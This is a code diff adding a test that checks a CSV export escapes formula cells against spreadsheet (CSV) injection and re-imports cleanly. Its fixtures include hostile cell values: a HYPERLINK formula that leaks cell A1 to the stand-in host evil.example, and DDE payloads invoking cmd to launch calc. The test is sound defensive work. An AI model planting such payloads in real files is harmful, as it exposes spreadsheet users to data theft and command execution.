@@ -183,4 +183,60 @@ describe.each(databaseLegs())('CSV import and export (%s)', (leg) => {
     );
     expect(copy).toEqual(original);
   });
+
+  it('escapes formula cells in the export (OWASP CSV injection), and the export imports back to the same text', async () => {
+    const owner = await (await factories(app)).newMember('vendor');
+    const hostile = {
+      title: '=HYPERLINK("http://evil.example/?leak="&A1,"Bag filter 50")',
+      summary: "@SUM(1+1)*cmd|' /C calc'!A0",
+      description: "+cmd|' /C calc'!A0 then a skid-mounted aramid bag filter.",
+      operating_cost_note: '-2+3 per operating hour',
+      // A text that really starts with a quote: written escaped, as the export writes it.
+      title_zh: "''=不是公式 50",
+    };
+    const tabbed = { title: "'quoted on purpose 51", description: '\tTabbed description of the filter.' };
+    expectStatus(await importCsv(csvOf([goodRow(50, hostile), goodRow(51, tabbed)]), owner.token), 200);
+    const exported = await app.request({
+      method: 'GET',
+      url: '/api/v1/technologies/export?mine=true',
+      token: owner.token,
+    });
+    expect(exported.status).toBe(200);
+    const records = parse(exported.text, { columns: true }) as Record<string, string>[];
+    const row50 = records.find((r) => r.title.includes('Bag filter 50'))!;
+    expect(row50).toMatchObject({
+      title: `'${hostile.title}`,
+      summary: `'${hostile.summary}`,
+      description: `'${hostile.description}`,
+      operating_cost_note: `'${hostile.operating_cost_note}`,
+      title_zh: hostile.title_zh,
+    });
+    const row51 = records.find((r) => r.title.includes('51'))!;
+    expect(row51.title).toBe(tabbed.title); // a quote before plain text is not an escape: left as it is
+    for (const record of records) {
+      for (const [column, cell] of Object.entries(record)) {
+        expect([column, /^[=+\-@\t\r]/.test(cell)]).toEqual([column, false]);
+      }
+    }
+    const titles = `SELECT title, summary, description, operating_cost_note, translations
+                      FROM technology WHERE vendor_organization_id = $1 ORDER BY created_at, title`;
+    const originals = await app.dataSource.query(titles, [owner.organizationId]);
+    expect(originals.map((r: { title: string }) => r.title).sort()).toEqual(
+      [tabbed.title, hostile.title].sort(),
+    );
+    const stored50 = originals.find((r: { title: string }) => r.title === hostile.title);
+    expect(stored50).toMatchObject({
+      summary: hostile.summary,
+      description: hostile.description,
+      operating_cost_note: hostile.operating_cost_note,
+    });
+    expect(stored50.translations[0].title).toBe("'=不是公式 50");
+    expect(expectStatus(await importCsv(exported.text, owner.token), 200).body).toMatchObject({
+      imported: 2,
+      rejected: 0,
+    });
+    const all = await app.dataSource.query(titles, [owner.organizationId]);
+    const key = (r: object) => JSON.stringify(r);
+    expect(all.slice(2).map(key).sort()).toEqual(originals.map(key).sort());
+  });
 });
